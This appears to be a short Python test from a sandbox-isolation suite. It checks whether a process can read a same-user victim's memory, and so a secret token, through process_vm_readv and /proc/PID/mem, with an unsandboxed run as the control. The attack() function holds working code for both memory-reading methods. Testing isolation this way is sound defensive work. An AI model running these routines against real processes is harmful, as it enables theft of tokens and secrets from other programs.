"""Reads the memory of a process of the same user outside with process_vm_readv and through
/proc/PID/mem.

layer: pid namespace
control: the same user without a sandbox reads the token
"""


def scene(s):
    s.args = s.victim()


def attack(a):
    def call():
        here = ctypes.create_string_buffer(a["length"])
        mine = (ctypes.c_size_t * 2)(ctypes.addressof(here), a["length"])
        theirs = (ctypes.c_size_t * 2)(a["address"], a["length"])
        syscall("process_vm_readv", a["pid"], mine, 1, theirs, 1, 0)
        print(here.raw.decode())

    def file():
        fd = os.open(f"/proc/{a['pid']}/mem", os.O_RDONLY)
        print(os.pread(fd, a["length"], a["address"]).decode())
    attempt(call)
    attempt(file)
